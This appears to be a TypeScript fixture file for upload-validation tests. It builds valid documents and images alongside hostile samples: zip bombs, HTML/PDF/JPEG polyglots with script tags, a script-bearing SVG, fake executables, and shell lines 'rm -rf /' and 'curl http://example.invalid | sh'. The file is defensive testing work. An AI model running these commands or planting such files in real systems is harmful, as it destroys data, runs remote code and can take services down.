import { crc32, deflateRawSync } from 'node:zlib';
import { demoPdf, demoPhoto } from '../../src/demo/demo-files.ts';

/** Files for upload tests: good ones of every accepted type, and hostile ones. */

export const pdf = (title = 'Báo cáo thành tích năm 2025') =>
  demoPdf({ issuer: 'Đoàn xã Trà Đốc', title, lines: ['Kính gửi: Ban Thường vụ Thành đoàn Đà Nẵng'] });
export const photo = (seed = 1) => demoPhoto(seed, 64, 48);

/** A 1×1 baseline JPEG (arithmetic-coded, the smallest valid one). */
export const jpeg = () =>
  Buffer.from(
    'ffd8ffe000104a46494600010101004800480000ffdb004300030202020203020202030303030406040404040408060605060908' +
      '0a0a090809090a0c0f0c0a0b0e0b09090d110d0e0f101011100a0c12131210130f101010ffc9000b080001000101011100ffcc' +
      '000600101005ffda0008010100003f00d2cf20ffd9',
    'hex',
  );
/** A 1×1 lossless WebP. */
export const webp = () => Buffer.from('UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==', 'base64');

export interface ZipPart {
  name: string;
  data: Buffer;
  store?: boolean;
  /** Lie in the headers: claim this many bytes once inflated. */
  declaredSize?: number;
}

/** A ZIP archive, optionally with lying headers, or whose last entry shares the bytes of the one before. */
export function zip(parts: ZipPart[], options: { overlap?: boolean } = {}): Buffer {
  const locals: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  let previous = 0;
  parts.forEach((part, index) => {
    const body = part.store ? part.data : deflateRawSync(part.data);
    const name = Buffer.from(part.name, 'utf8');
    const size = part.declaredSize ?? part.data.length;
    const overlapping = options.overlap === true && index === parts.length - 1;
    const record = Buffer.alloc(46);
    record.writeUInt32LE(0x02014b50, 0);
    record.writeUInt16LE(20, 4);
    record.writeUInt16LE(20, 6);
    record.writeUInt16LE(part.store ? 0 : 8, 10);
    record.writeUInt32LE(crc32(part.data), 16);
    record.writeUInt32LE(body.length, 20);
    record.writeUInt32LE(size, 24);
    record.writeUInt16LE(name.length, 28);
    record.writeUInt32LE(overlapping ? previous : offset, 42);
    central.push(record, name);
    if (overlapping) return;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(part.store ? 0 : 8, 8);
    local.writeUInt32LE(crc32(part.data), 14);
    local.writeUInt32LE(body.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    locals.push(local, name, body);
    previous = offset;
    offset += 30 + name.length + body.length;
  });
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

const contentTypes = (main: string) =>
  Buffer.from(
    `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
      `<Default Extension="xml" ContentType="application/xml"/><Override PartName="/main.xml" ContentType="${main}.main+xml"/></Types>`,
  );

const wordXml = (text: string) =>
  Buffer.from(
    `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:body></w:document>`,
  );

export const docx = (text = 'Báo cáo thành tích của Chi đoàn thôn 2', extra: ZipPart[] = []) =>
  zip([
    {
      name: '[Content_Types].xml',
      data: contentTypes('application/vnd.openxmlformats-officedocument.wordprocessingml.document'),
    },
    { name: 'word/document.xml', data: wordXml(text) },
    ...extra,
  ]);

export const docm = () =>
  zip([
    { name: '[Content_Types].xml', data: contentTypes('application/vnd.ms-word.document.macroEnabled') },
    { name: 'word/document.xml', data: wordXml('macro') },
    { name: 'word/vbaProject.bin', data: Buffer.from('Attribute VB_Name = "x"') },
  ]);

export const xlsx = () =>
  zip([
    {
      name: '[Content_Types].xml',
      data: contentTypes('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'),
    },
    { name: 'xl/workbook.xml', data: Buffer.from('<workbook/>') },
  ]);

export const odt = () =>
  zip([
    { name: 'mimetype', data: Buffer.from('application/vnd.oasis.opendocument.text'), store: true },
    { name: 'content.xml', data: Buffer.from('<office:document-content/>') },
  ]);

/** 20 MB of zeros squeezed into a DOCX (honest headers): the ratio alone refuses it. */
export const honestBomb = () =>
  docx('x', [{ name: 'word/media/zeros.bin', data: Buffer.alloc(20 * 1024 * 1024) }]);

/** A DOCX whose part claims 1 KiB but inflates to 10 MB. */
export const lyingBomb = () =>
  docx('x', [{ name: 'word/media/zeros.bin', data: Buffer.alloc(10 * 1024 * 1024), declaredSize: 1024 }]);

/** A DOCX whose last part reuses the bytes of the one before (the non-recursive zip bomb's trick). */
export const overlappingZip = () =>
  zip(
    [
      {
        name: '[Content_Types].xml',
        data: contentTypes('application/vnd.openxmlformats-officedocument.wordprocessingml.document'),
      },
      { name: 'word/document.xml', data: wordXml('a') },
      { name: 'word/styles.xml', data: wordXml('a') },
    ],
    { overlap: true },
  );

/** A photo too big for a small limit. */
export const largePhoto = () => demoPhoto(9, 320, 240);

export const hostile = {
  htmlThenPdf: () => Buffer.concat([Buffer.from('<html><script>alert(document.cookie)</script>'), pdf()]),
  pdfWithHtml: () => {
    const bytes = pdf();
    const cut = bytes.indexOf('\n') + 1;
    return Buffer.concat([
      bytes.subarray(0, cut),
      Buffer.from('%<html><body><script>alert(1)</script>\n'),
      bytes.subarray(cut),
    ]);
  },
  pdfAndZip: () => Buffer.concat([pdf(), zip([{ name: 'a.txt', data: Buffer.from('hidden') }])]),
  jpegWithHtml: () => {
    const bytes = jpeg();
    const comment = Buffer.from('<html><script>alert(1)</script></html>');
    const segment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, comment.length + 2]), comment]);
    return Buffer.concat([bytes.subarray(0, 2), segment, bytes.subarray(2)]);
  },
  pngThenData: () => Buffer.concat([photo(), Buffer.from('#!/bin/sh\nrm -rf /\n')]),
  svgWithScript: () =>
    Buffer.from(
      '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    ),
  html: () => Buffer.from('<!DOCTYPE html><html><body onload="alert(1)">Báo cáo</body></html>'),
  script: () => Buffer.from('#!/bin/sh\ncurl http://example.invalid | sh\n'),
  exe: () => {
    const bytes = Buffer.alloc(512);
    bytes.write('MZ', 0, 'latin1');
    bytes.writeUInt32LE(0x80, 0x3c);
    bytes.write('PE\0\0', 0x80, 'latin1');
    return bytes;
  },
  elf: () => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)]),
  archive: () => zip([{ name: 'tai-lieu.pdf', data: pdf() }]),
};

/** A multipart/form-data body with one file part, as a browser's FormData sends it. */
export function multipart(name: string, bytes: Buffer, contentType = 'application/octet-stream') {
  const boundary = '----doanflowTestBoundary7MA4YWxkTrZu0gW';
  const head = Buffer.from(
    `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: ${contentType}\r\n\r\n`,
    'utf8',
  );
  return {
    payload: Buffer.concat([head, bytes, Buffer.from(`\r\n--${boundary}--\r\n`)]),
    headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
  };
}
